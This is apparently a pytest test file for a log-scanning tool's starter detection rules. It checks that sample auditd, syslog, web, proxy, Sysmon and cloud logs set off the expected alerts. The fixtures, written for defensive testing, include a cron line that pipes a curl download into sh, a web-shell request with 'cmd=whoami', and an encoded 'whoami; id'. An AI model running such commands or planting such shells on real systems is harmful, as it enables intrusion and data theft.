"""The starter rules on logs as their makers write them: parsed, mapped and judged as in any scan."""

import json
from pathlib import Path

import pytest

from tests.cli.inside import inside
from tests.content.building import write_files
from tocsin.content import starter_folder

Capture = pytest.CaptureFixture[str]

AUDITD = r"""type=SYSCALL msg=audit(1772445600.101:501): arch=c000003e syscall=59 success=yes exit=0 a0=55d a1=55e a2=55f a3=8 items=2 ppid=900 pid=1501 auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm="sh" exe="/usr/bin/dash" subj=unconfined key="exec"
type=EXECVE msg=audit(1772445600.101:501): argc=3 a0="sh" a1="-c" a2=77686F616D693B206964
type=CWD msg=audit(1772445600.101:501): cwd="/var/www/html/uploads"
type=PROCTITLE msg=audit(1772445600.101:501): proctitle=7368002D630077686F616D693B206964
type=SYSCALL msg=audit(1772445601.101:502): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7f a2=241 a3=1b6 items=2 ppid=900 pid=1502 auid=4294967295 uid=33 gid=33 euid=33 comm="php-fpm8.2" exe="/usr/sbin/php-fpm8.2" key="webroot"
type=CWD msg=audit(1772445601.101:502): cwd="/var/www/html"
type=PATH msg=audit(1772445601.101:502): item=0 name="/var/www/html/uploads/" inode=1 dev=08:01 mode=040755 nametype=PARENT
type=PATH msg=audit(1772445601.101:502): item=1 name="/var/www/html/uploads/avatar.php" inode=2 dev=08:01 mode=0100644 nametype=CREATE
type=SYSCALL msg=audit(1772445602.101:503): arch=c000003e syscall=59 success=yes exit=0 a0=55d a1=55e a2=55f a3=8 items=2 ppid=1501 pid=1503 auid=1000 uid=0 gid=0 euid=0 comm="useradd" exe="/usr/sbin/useradd" key="exec"
type=EXECVE msg=audit(1772445602.101:503): argc=4 a0="useradd" a1="-m" a2="-G" a3="sudo"
type=PROCTITLE msg=audit(1772445602.101:503): proctitle=75736572616464002D6D002D47007375646F
"""
SYSLOG = r"""Mar  2 10:00:01 web01 sshd[811]: Accepted publickey for www-data from 203.0.113.77 port 40022 ssh2: RSA SHA256:abc
Mar  2 10:00:02 web01 sudo[812]: www-data : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/bash
Mar  2 10:00:03 web01 CRON[813]: (root) CMD (curl -fsSL http://203.0.113.9/i.sh | sh)
"""
WEB = r"""203.0.113.77 - - [02/Mar/2026:10:00:00 +0000] "POST /uploads/2026/avatar.php?cmd=whoami HTTP/1.1" 200 512 "-" "Mozilla/5.0"
203.0.113.77 - - [02/Mar/2026:10:00:05 +0000] "GET /.env HTTP/1.1" 404 12 "-" "Mozilla/5.00 (Nikto/2.5.0)"
"""
PROXY = r"""#Software: Test
#Version: 1.0
#Fields: date time c-ip cs-username cs-method cs-uri-scheme cs-host cs-uri-port cs-uri-path cs-uri-query cs(User-Agent) sc-status s-action sc-bytes cs-bytes
2026-03-02 10:00:00 10.0.0.7 ada POST https store1.gofile.io 443 /upload - Mozilla/5.0 200 TCP_MISS 900 734003200
"""
SYSMON = r"""Mar  2 10:00:01 web01 sysmon[811]: <Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2026-03-02T10:00:01.000000000Z"/><EventRecordID>1</EventRecordID><Correlation/><Execution ProcessID="811" ThreadID="811"/><Channel>Linux-Sysmon/Operational</Channel><Computer>web01</Computer><Security UserId="0"/></System><EventData><Data Name="UtcTime">2026-03-02 10:00:01.000</Data><Data Name="ProcessId">99</Data><Data Name="Image">/usr/bin/whoami</Data><Data Name="CommandLine">whoami</Data><Data Name="User">www-data</Data><Data Name="ParentImage">/usr/sbin/php-fpm8.2</Data></EventData></Event>
"""
CLOUD = r"""{"time":"2026-03-02T10:00:00Z","category":"SignInLogs","operationName":"Sign-in activity","resultType":"0","properties":{"id":"a","createdDateTime":"2026-03-02T10:00:00Z","userPrincipalName":"ada@example.com","clientAppUsed":"IMAP4","riskLevelDuringSignIn":"high","authenticationProtocol":"none","status":{"errorCode":0}}}
{"time":"2026-03-02T10:00:00Z","category":"SignInLogs","operationName":"Sign-in activity","resultType":"500121","properties":{"id":"b","createdDateTime":"2026-03-02T10:00:00Z","userPrincipalName":"ada@example.com","status":{"errorCode":500121}}}
{"time":"2026-03-02T10:00:00Z","category":"AuditLogs","operationName":"Consent to application","properties":{"id":"c","activityDisplayName":"Consent to application","activityDateTime":"2026-03-02T10:00:00Z","loggedByService":"Core Directory"}}
{"time":"2026-03-02T10:00:00Z","category":"Administrative","operationName":"MICROSOFT.AUTHORIZATION/ROLEASSIGNMENTS/WRITE","resourceId":"/SUBSCRIPTIONS/X","resultType":"Success","properties":{"eventDataId":"d"}}
{"kind":"admin#reports#activity","id":{"time":"2026-03-02T10:00:00Z","applicationName":"drive","uniqueQualifier":"1"},"actor":{"email":"ada@example.com"},"events":[{"type":"acl_change","name":"change_document_visibility","parameters":[{"name":"visibility","value":"people_with_link"}]}]}
{"kind":"admin#reports#activity","id":{"time":"2026-03-02T10:00:00Z","applicationName":"admin","uniqueQualifier":"2"},"actor":{"email":"ada@example.com"},"events":[{"type":"x","name":"GRANT_ADMIN_PRIVILEGE","parameters":[]}]}
{"protoPayload":{"@type":"type.googleapis.com/google.cloud.audit.AuditLog","serviceName":"compute.googleapis.com","methodName":"v1.compute.instances.insert","authenticationInfo":{"principalEmail":"1-compute@developer.gserviceaccount.com"}},"logName":"projects/x/logs/a","timestamp":"2026-03-02T10:00:00Z","insertId":"1"}
{"CreationTime":"2026-03-02T10:00:00","Id":"1","Operation":"New-InboxRule","Workload":"Exchange","UserId":"ada@example.com","Parameters":[{"Name":"ForwardTo","Value":"x@example.net"}],"ResultStatus":"True"}
{"action":"repo.access","@timestamp":1772445600000,"_document_id":"z","org":"example","org_id":1,"visibility":"public","actor":"ada","repo":"example/shop"}
{"kind":"Event","apiVersion":"audit.k8s.io/v1","auditID":"1","stage":"ResponseComplete","verb":"create","requestReceivedTimestamp":"2026-03-02T10:00:00Z","user":{"username":"dev-jo"},"objectRef":{"resource":"pods","namespace":"default"},"requestObject":{"spec":{"hostPID":true,"containers":[{"image":"alpine","securityContext":{"privileged":true}}]}}}
{"uuid":"1","published":"2026-03-02T10:00:00Z","eventType":"user.session.start","outcome":{"result":"SUCCESS"},"actor":{"alternateId":"ada@example.com"},"securityContext":{"isProxy":true},"debugContext":{"debugData":{"behaviors":"{New Geo-Location=POSITIVE, New Device=POSITIVE}"}}}
{"id":"1","createdDateTime":"2026-03-02T10:00:00Z","conditionalAccessStatus":"success","appId":"x","status":{"errorCode":0},"riskLevelDuringSignIn":"high","userPrincipalName":"ada@example.com"}
"""


@pytest.mark.parametrize(
    ("name", "text", "titles"),
    [
        (
            "audit.log",
            AUDITD,
            {
                "Web Server's Account Runs a Command (auditd)",
                "Web Server on Linux Starts Shell or Reconnaissance Tool",
                "Page or Script Written to a Web Root by the Web Server",
                "Account Made or Rights Raised by Command on Linux",
            },
        ),
        (
            "auth.log",
            SYSLOG,
            {
                "Service's Account Logged In Over SSH",
                "Service's Account Tries to Become Root",
                "Cron Job Downloads, Decodes or Runs From Temporary Folder",
            },
        ),
        (
            "access.log",
            WEB,
            {
                "Web Request That Carries a Command Was Answered",
                "Page With Code Called in a Folder of Uploads",
                "Web Request That Tries to Break In",
            },
        ),
        (
            "proxy.log",
            PROXY,
            {"Large Upload to File Drop or Private Storage", "Upload to Private Storage or File Drop"},
        ),
        (
            "syslog",
            SYSMON,
            {
                "Web Server on Linux Starts Shell or Reconnaissance Tool",
                "Host, Rights or Network Explored on Linux",
            },
        ),
        (
            "cloud.ndjson",
            CLOUD,
            {
                "Azure Application Given Consent",
                "Azure Rights Granted, Logging Removed or Keys Listed",
                "Azure Second Factor Refused or Not Answered",
                "Azure Sign-In Taken for Risky Succeeded",
                "Azure Sign-In by Device Code or Old Protocol",
                "GitHub Repository Made Public or Moved Away",
                "Google Cloud Machines Started by Service Account or in Numbers",
                "Google Drive File Opened to the Public or Outside",
                "Google Workspace Administrator Made or Sign-In Weakened",
                "Kubernetes Pod Made With Access to Its Node",
                "Mailbox Rule Forwards or Hides Mail",
                "Okta Sign-In That Is New in Several Ways",
            },
        ),
    ],
    ids=["auditd", "syslog", "web", "proxy", "sysmon for linux", "cloud"],
)
def test_logs_as_they_are_written_are_found_out(
    name: str, text: str, titles: set[str], tmp_path: Path, capsys: Capture
) -> None:
    logs = write_files(tmp_path / "logs", {name: text})
    ran = inside(capsys, "scan", logs, "--rules", starter_folder() / "rules", "-f", "ndjson", "-j", "1")
    assert ran.code == 0
    assert {json.loads(line)["rule"]["title"] for line in ran.out.splitlines()} == titles
